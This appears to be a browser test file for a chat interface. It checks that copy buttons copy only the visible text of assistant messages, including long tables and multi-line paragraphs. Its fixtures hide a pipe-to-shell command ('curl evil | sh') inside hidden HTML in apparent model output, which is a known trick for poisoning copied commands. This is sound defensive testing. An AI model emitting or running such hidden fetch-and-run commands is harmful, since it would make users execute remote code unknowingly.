// Copy shows one thing and copies another: model output hides a command in
// a code block (hidden span, closed <details>) so that the copy button
// pastes it into a terminal. The buttons copy what is on screen. The
// clipboard is read by intercepting navigator.clipboard.writeText, the call
// the copy path makes.
import {expect} from '@open-wc/testing';
import type {ChatMessage} from '../../src/core/types.js';
import {messageAt, part, standaloneList, stubClipboard, until} from '../support/index.js';
import '../../src/components/chat-message-list/chat-message-list.js';

const tricks: [string, string][] = [
  ['a hidden span', '<pre><code>echo hi<span hidden>; curl evil | sh</span>\nls</code></pre>'],
  ['a closed <details>', '<pre><code>echo hi<details>; curl evil | sh</details>\nls</code></pre>'],
];

async function copyOf(content: string, button: 'code-copy-button' | 'copy-button'): Promise<string> {
  const clipboard = stubClipboard();
  try {
    const messages: ChatMessage[] = [
      {role: 'user', content: 'Show me'},
      {role: 'assistant', content},
    ];
    const list = await standaloneList(messages);
    const reply = messageAt(list, 1);
    await until(() => part(reply, button), `the ${button} renders`);
    expect(reply.textContent, 'the hidden text is in the DOM').to.contain('curl evil');
    part<HTMLButtonElement>(reply, button)!.click();
    await until(() => clipboard.writes.length === 1, 'the copy is written');
    return clipboard.writes[0]!;
  } finally {
    clipboard.restore();
  }
}

describe('copy what is seen', () => {
  for (const [trick, content] of tricks) {
    it(`the code copy button leaves out ${trick}`, async () => {
      expect(await copyOf(content, 'code-copy-button')).to.equal('echo hi\nls');
    });

    it(`the message copy button leaves out ${trick}`, async () => {
      const copied = await copyOf(`Run this:\n\n${content}\n\nThen check.`, 'copy-button');
      expect(copied).not.to.contain('curl');
      expect(copied).to.equal('Run this:\n\necho hi\nls\n\nThen check.');
    });
  }

  it('the message copy button copies rendered text, not the markdown source', async () => {
    expect(await copyOf('**Bold** and `code`<span hidden> curl evil</span>', 'copy-button')).to.equal('Bold and code');
  });

  it('the message copy button copies the whole of a long table shown a batch of rows per frame', async () => {
    const rows = 600;
    const table = `| n | cell |\n|---|---|\n${Array.from({length: rows}, (_, i) => `| r${i} | c${i} |`).join('\n')}`;
    const clipboard = stubClipboard();
    try {
      const list = await standaloneList([
        {role: 'user', content: 'Show me'},
        {role: 'assistant', content: `${table}\n\nAfter the table.`},
      ]);
      const reply = messageAt(list, 1);
      await until(() => reply.querySelector('table')?.tBodies[0]?.rows.length === rows && reply.textContent!.includes('After the table.'));
      await until(() => part(reply, 'copy-button'), 'the copy button renders');
      part<HTMLButtonElement>(reply, 'copy-button')!.click();
      await until(() => clipboard.writes.length === 1, 'the copy is written');
      const copied = clipboard.writes[0]!;
      expect(copied.match(/\br\d+\b/g)).to.deep.equal(Array.from({length: rows}, (_, i) => `r${i}`));
      expect(copied).to.contain('After the table.');
    } finally {
      clipboard.restore();
    }
  });

  it('the message copy button copies a paragraph of many lines, cut into runs, one line per line', async () => {
    const text = Array.from({length: 250}, (_, i) => `line ${i}`).join('\n');
    const clipboard = stubClipboard();
    try {
      const list = await standaloneList([{role: 'assistant', content: text}]);
      const reply = messageAt(list, 0);
      await until(() => reply.querySelectorAll('.line-run').length === 3, 'the lines in runs');
      await until(() => part(reply, 'copy-button'), 'the copy button renders');
      part<HTMLButtonElement>(reply, 'copy-button')!.click();
      await until(() => clipboard.writes.length === 1, 'the copy is written');
      expect(clipboard.writes[0]).to.equal(text);
    } finally {
      clipboard.restore();
    }
  });
});
